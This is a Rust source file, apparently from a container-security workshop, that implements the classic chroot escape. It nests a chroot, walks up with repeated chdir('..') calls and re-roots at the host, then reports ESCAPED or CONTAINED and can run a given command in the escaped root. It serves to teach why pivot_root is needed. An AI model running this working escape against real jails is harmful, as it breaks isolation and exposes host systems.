//! The classic chroot escape, as the workshop shows it before pivot_root.
//!
//! chroot(2) changes the root directory but not the working directory. A
//! process that is root in a chroot can chroot into a subdirectory while its
//! working directory stays outside that new root; from there `..` is never
//! stopped by the root, so enough `chdir("..")` calls walk up to the real root
//! of the mount namespace, and `chroot(".")` makes that the root again.
//!
//! Prints `ESCAPED` when the root it ends in is not the one it started in,
//! `CONTAINED` otherwise. With arguments, runs them in the root it ended in
//! (`breakout ls /` lists the host's root after an escape).

use std::env;
use std::fs;
use std::os::unix::fs::{chroot, MetadataExt};
use std::os::unix::process::CommandExt;
use std::process::{exit, Command};

fn root_identity() -> (u64, u64) {
    let meta = fs::metadata("/").expect("stat /");
    (meta.dev(), meta.ino())
}

fn main() {
    let before = root_identity();
    let escaped = attempt().is_ok() && root_identity() != before;
    println!("{}", if escaped { "ESCAPED" } else { "CONTAINED" });
    let args: Vec<String> = env::args().skip(1).collect();
    if let Some((program, rest)) = args.split_first() {
        let err = Command::new(program).args(rest).exec();
        eprintln!("breakout: {program}: {err}");
        exit(127);
    }
}

fn attempt() -> std::io::Result<()> {
    let dir = "/.breakout";
    fs::create_dir_all(dir)?;
    let result = chroot(dir);
    // Our working directory is still the old "/", so the relative name
    // reaches the directory we just made our root.
    let _ = fs::remove_dir(".breakout");
    result?;
    for _ in 0..1024 {
        env::set_current_dir("..")?;
    }
    chroot(".")
}
